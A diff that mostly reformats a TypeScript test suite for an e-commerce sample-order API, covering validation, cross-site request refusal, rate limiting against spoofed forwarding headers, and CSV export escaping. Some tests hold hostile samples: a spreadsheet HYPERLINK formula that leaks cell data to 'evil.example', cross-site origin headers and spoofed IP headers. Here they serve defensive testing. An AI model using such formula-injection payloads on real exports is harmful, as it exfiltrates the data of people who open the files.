@@ -43,14 +43,21 @@ const order = (marker: string, overrides: Record<string, unknown> = {}) => ({
 
 async function post(
   body: unknown,
-  { client = freshClient(), headers = {} }: { client?: Client; headers?: Record<string, string> } = {},
+  {
+    client = freshClient(),
+    headers = {},
+  }: { client?: Client; headers?: Record<string, string> } = {},
 ): Promise<{ status: number; body: Record<string, unknown>; headers: Headers }> {
   const response = await client('/api/sample-bag/orders', {
     method: 'POST',
     headers: { 'content-type': 'application/json', ...headers },
     body: typeof body === 'string' ? body : JSON.stringify(body),
   })
-  return { status: response.status, body: (await response.json()) as Record<string, unknown>, headers: response.headers }
+  return {
+    status: response.status,
+    body: (await response.json()) as Record<string, unknown>,
+    headers: response.headers,
+  }
 }
 
 interface StoredOrder {
@@ -64,8 +71,14 @@ interface StoredOrder {
 
 /** The stored orders whose last name carries the marker, read as the demo editor through the CMS REST API. */
 async function storedOrders(marker: string): Promise<StoredOrder[]> {
-  const query = new URLSearchParams({ 'where[contact.lastName][equals]': `Sample test ${RUN} ${marker}`, depth: '0', limit: '100' })
-  const response = await fetch(`${baseUrl()}/api/sample-orders?${query}`, { headers: { authorization: `JWT ${token}` } })
+  const query = new URLSearchParams({
+    'where[contact.lastName][equals]': `Sample test ${RUN} ${marker}`,
+    depth: '0',
+    limit: '100',
+  })
+  const response = await fetch(`${baseUrl()}/api/sample-orders?${query}`, {
+    headers: { authorization: `JWT ${token}` },
+  })
   expect(response.status).toBe(200)
   return ((await response.json()) as { docs: StoredOrder[] }).docs
 }
@@ -118,7 +131,14 @@ describe('POST /api/sample-bag/orders', () => {
   })
 
   it('names each missing field with "This field is required"', async () => {
-    const { status, body } = await post({ ...order('missing'), firstName: '', email: undefined, phone: '  ', city: undefined, country: undefined })
+    const { status, body } = await post({
+      ...order('missing'),
+      firstName: '',
+      email: undefined,
+      phone: '  ',
+      city: undefined,
+      country: undefined,
+    })
     expect(status).toBe(422)
     expect(body.errors).toEqual({
       firstName: 'This field is required',
@@ -130,10 +150,13 @@ describe('POST /api/sample-bag/orders', () => {
     expect(await storedOrders('missing')).toHaveLength(0)
   })
 
-  it('answers in the order\'s locale, and in English for a locale the site does not know', async () => {
+  it("answers in the order's locale, and in English for a locale the site does not know", async () => {
     const spanish = await post({ ...order('spanish'), locale: 'es', firstName: '', email: 'nope' })
     expect(spanish.status).toBe(422)
-    expect(spanish.body.errors).toEqual({ firstName: 'Este campo es obligatorio', email: 'Dirección de correo electrónico no válida' })
+    expect(spanish.body.errors).toEqual({
+      firstName: 'Este campo es obligatorio',
+      email: 'Dirección de correo electrónico no válida',
+    })
     const unknown = await post({ ...order('unknown-locale'), locale: 'xx' })
     expect(unknown.status).toBe(422)
     expect(unknown.body.errors).toEqual({ locale: 'This value is not valid' })
@@ -151,18 +174,27 @@ describe('POST /api/sample-bag/orders', () => {
   it('refuses skus that do not exist, that the region lacks or that offer no samples', async () => {
     // TF-10010 is not sold in the US; TF-10013 does not offer samples.
     for (const items of [['TF-10001', 'TF-99999'], ['TF-10010'], ['TF-10013']]) {
-      const { status, body } = await post(order('skus', { items, email: emailFor(`skus-${items.join('-')}`) }))
+      const { status, body } = await post(
+        order('skus', { items, email: emailFor(`skus-${items.join('-')}`) }),
+      )
       expect(status, items.join()).toBe(422)
-      expect(body).toEqual({ errors: { items: 'Some products in your sample bag are not offered as samples in your region. Remove them and try again.' } })
+      expect(body).toEqual({
+        errors: {
+          items:
+            'Some products in your sample bag are not offered as samples in your region. Remove them and try again.',
+        },
+      })
     }
     expect(await storedOrders('skus')).toHaveLength(0)
   })
 
-  it('refuses more items than the region\'s maximum', async () => {
+  it("refuses more items than the region's maximum", async () => {
     const items = ['TF-10001', 'TF-10002', 'TF-10003', 'TF-10004', 'TF-10005', 'TF-10006']
     const { status, body } = await post(order('too-many', { items }))
     expect(status).toBe(422)
-    expect(body).toEqual({ errors: { items: 'Sorry, you have already added the max number of samples to your bag' } })
+    expect(body).toEqual({
+      errors: { items: 'Sorry, you have already added the max number of samples to your bag' },
+    })
     expect(await storedOrders('too-many')).toHaveLength(0)
   })
 
@@ -190,7 +222,11 @@ describe('POST /api/sample-bag/orders', () => {
 
   it('refuses an order not sent as JSON with 415 and stores nothing', async () => {
     // A form or text/plain post is a simple request: any other site could make its visitors' browsers send it.
-    for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded']) {
+    for (const type of [
+      'text/plain',
+      'text/plain;charset=UTF-8',
+      'application/x-www-form-urlencoded',
+    ]) {
       const { status, body } = await post(order('plain'), { headers: { 'content-type': type } })
       expect(status, type).toBe(415)
       expect(typeof body.message).toBe('string')
@@ -199,7 +235,12 @@ describe('POST /api/sample-bag/orders', () => {
   })
 
   it('refuses an order from a page of another site with 403 and stores nothing', async () => {
-    const crossSite: Record<string, string>[] = [{ origin: 'https://evil.example' }, { 'sec-fetch-site': 'cross-site' }, { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' }, { origin: 'null' }]
+    const crossSite: Record<string, string>[] = [
+      { origin: 'https://evil.example' },
+      { 'sec-fetch-site': 'cross-site' },
+      { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
+      { origin: 'null' },
+    ]
     for (const headers of crossSite) {
       const { status, body } = await post(order('cross-site'), { headers })
       expect(status, JSON.stringify(headers)).toBe(403)
@@ -220,7 +261,8 @@ describe('POST /api/sample-bag/orders', () => {
     const changed = await post({ ...first, street: '99 Other St', items: ['TF-10001'] })
     expect(changed.status).toBe(422)
     expect(changed.body).toEqual({
-      message: 'This request was already used for an order with different details, so nothing was changed. Please place your changed order as a new order.',
+      message:
+        'This request was already used for an order with different details, so nothing was changed. Please place your changed order as a new order.',
     })
     const spanish = await post({ ...first, locale: 'es' })
     expect(spanish.status).toBe(422)
@@ -230,7 +272,12 @@ describe('POST /api/sample-bag/orders', () => {
     expect(retry.body.reference).toBe(placed.body.reference)
     const docs = await storedOrders('changed')
     expect(docs).toHaveLength(1)
-    expect(docs[0]).toMatchObject({ reference: placed.body.reference, locale: 'en', items: [{ sku: 'TF-10001' }, { sku: 'TF-10002' }], shippingAddress: { street: '12 Main St' } })
+    expect(docs[0]).toMatchObject({
+      reference: placed.body.reference,
+      locale: 'en',
+      items: [{ sku: 'TF-10001' }, { sku: 'TF-10002' }],
+      shippingAddress: { street: '12 Main St' },
+    })
   })
 
   it.skipIf(LIMIT <= 0)('limits requests per client address with 429 and Retry-After', async () => {
@@ -244,38 +291,54 @@ describe('POST /api/sample-bag/orders', () => {
     expect((await post(order('other-address'))).status).toBe(201)
   })
 
-  it.skipIf(LIMIT <= 0)('does not let a spoofed x-forwarded-for reset the per-address limit', async () => {
-    const client = freshClient()
-    for (let i = 0; i < LIMIT; i++) {
-      expect((await post({}, { client, headers: { 'x-forwarded-for': `198.51.100.${i + 1}` } })).status).toBe(422)
-    }
-    const spoofed = await post(order('spoofed'), {
-      client,
-      headers: { 'x-forwarded-for': '203.0.113.9', 'x-real-ip': '203.0.113.9', 'x-client-address': '203.0.113.9' },
-    })
-    expect(spoofed.status).toBe(429)
-    expect(await storedOrders('spoofed')).toHaveLength(0)
-  })
+  it.skipIf(LIMIT <= 0)(
+    'does not let a spoofed x-forwarded-for reset the per-address limit',
+    async () => {
+      const client = freshClient()
+      for (let i = 0; i < LIMIT; i++) {
+        expect(
+          (await post({}, { client, headers: { 'x-forwarded-for': `198.51.100.${i + 1}` } }))
+            .status,
+        ).toBe(422)
+      }
+      const spoofed = await post(order('spoofed'), {
+        client,
+        headers: {
+          'x-forwarded-for': '203.0.113.9',
+          'x-real-ip': '203.0.113.9',
+          'x-client-address': '203.0.113.9',
+        },
+      })
+      expect(spoofed.status).toBe(429)
+      expect(await storedOrders('spoofed')).toHaveLength(0)
+    },
+  )
 
-  it.skipIf(LIMIT <= 0)('limits stored orders per email address, from any client address and in any letter case', async () => {
-    // Refused for their products (TF-10013 offers no samples), these spend nothing.
-    for (let i = 0; i < 3; i++) {
-      const { status, body } = await post(order('per-email', { items: ['TF-10013'] }))
-      expect(status).toBe(422)
-      expect(body.errors).toHaveProperty('items')
-    }
-    for (let i = 0; i < LIMIT; i++) expect((await post(order('per-email'))).status).toBe(201)
-    const limited = await post(order('per-email', { email: ` ${emailFor('per-email').toUpperCase()} ` }))
-    expect(limited.status).toBe(429)
-    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0)
-    expect(limited.body.message).toMatch(/email address/)
-    expect(await storedOrders('per-email')).toHaveLength(LIMIT)
-    expect((await post(order('other-email'))).status).toBe(201)
-  })
+  it.skipIf(LIMIT <= 0)(
+    'limits stored orders per email address, from any client address and in any letter case',
+    async () => {
+      // Refused for their products (TF-10013 offers no samples), these spend nothing.
+      for (let i = 0; i < 3; i++) {
+        const { status, body } = await post(order('per-email', { items: ['TF-10013'] }))
+        expect(status).toBe(422)
+        expect(body.errors).toHaveProperty('items')
+      }
+      for (let i = 0; i < LIMIT; i++) expect((await post(order('per-email'))).status).toBe(201)
+      const limited = await post(
+        order('per-email', { email: ` ${emailFor('per-email').toUpperCase()} ` }),
+      )
+      expect(limited.status).toBe(429)
+      expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0)
+      expect(limited.body.message).toMatch(/email address/)
+      expect(await storedOrders('per-email')).toHaveLength(LIMIT)
+      expect((await post(order('other-email'))).status).toBe(201)
+    },
+  )
 })
 
 describe('GET /api/sample-orders/export.csv', () => {
-  const exportCsv = (headers: Record<string, string> = {}) => fetch(`${baseUrl()}/api/sample-orders/export.csv`, { headers })
+  const exportCsv = (headers: Record<string, string> = {}) =>
+    fetch(`${baseUrl()}/api/sample-orders/export.csv`, { headers })
 
   it('refuses anonymous callers with 403', async () => {
     const response = await exportCsv()
@@ -290,9 +353,13 @@ describe('GET /api/sample-orders/export.csv', () => {
     const response = await exportCsv({ authorization: `JWT ${token}` })
     expect(response.status).toBe(200)
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
-    expect(response.headers.get('content-disposition')).toBe('attachment; filename="sample-orders.csv"')
+    expect(response.headers.get('content-disposition')).toBe(
+      'attachment; filename="sample-orders.csv"',
+    )
     expect(response.headers.get('x-content-type-options')).toBe('nosniff')
-    const row = (await response.text()).split('\r\n').find((line) => line.startsWith(`${placed.body.reference},`))
+    const row = (await response.text())
+      .split('\r\n')
+      .find((line) => line.startsWith(`${placed.body.reference},`))
     expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Bistro ${RUN}"")"`)
     expect(row).toContain(emailFor('formula'))
     expect(row).not.toMatch(/(^|,)"?=/)
